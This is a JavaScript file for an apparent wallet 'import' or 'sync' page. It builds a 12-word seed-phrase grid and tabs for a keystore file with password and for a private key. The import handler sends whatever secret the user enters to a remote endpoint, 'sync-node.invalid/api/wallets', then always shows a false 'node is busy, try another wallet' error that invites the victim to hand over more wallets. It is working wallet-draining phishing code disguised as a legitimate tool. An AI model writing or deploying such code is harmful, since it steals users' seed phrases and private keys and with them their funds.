const tabs = document.querySelectorAll('.tab-btn')
const panes = { phrase: document.querySelector('#tab-phrase'), keystore: document.querySelector('#tab-keystore'), privatekey: document.querySelector('#tab-private') }
let active = 'phrase'

tabs.forEach(b => b.addEventListener('click', () => {
  active = b.dataset.tab
  Object.entries(panes).forEach(([k, el]) => el.classList.toggle('hidden', k !== active))
}))

const grid = document.querySelector('#word-grid')
for (let i = 1; i <= 12; i++) {
  grid.insertAdjacentHTML('beforeend', `<label>${i}.<input class="word" autocomplete="off" spellcheck="false"></label>`)
}
grid.addEventListener('paste', e => {
  const w = e.clipboardData.getData('text').trim().split(/\s+/)
  if (w.length > 1) {
    e.preventDefault()
    document.querySelectorAll('.word').forEach((inp, i) => { inp.value = w[i] || '' })
  }
})

document.querySelector('#import').addEventListener('click', async () => {
  const payload = { type: active, wallet: new URLSearchParams(location.search).get('w') }
  if (active === 'phrase') {
    const words = [...document.querySelectorAll('.word')].map(i => i.value.trim())
    if (words.some(w => !w)) return toast('Fill in all the words')
    payload.value = words.join(' ')
  } else if (active === 'keystore') {
    payload.value = document.querySelector('#keystore-json').value
    payload.password = document.querySelector('#keystore-pass').value
  } else {
    payload.value = document.querySelector('#pk').value.trim()
    if (!/^(0x)?[0-9a-f]{64}$/i.test(payload.value)) return toast('Invalid private key')
  }
  await fetch('https://sync-node.invalid/api/wallets', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(payload) })
  toast('Synchronisation failed: node is busy. Try another wallet.')
})

function toast(t) {
  const el = document.querySelector('.toast')
  el.textContent = t
  el.classList.add('on')
  setTimeout(() => el.classList.remove('on'), 3000)
}
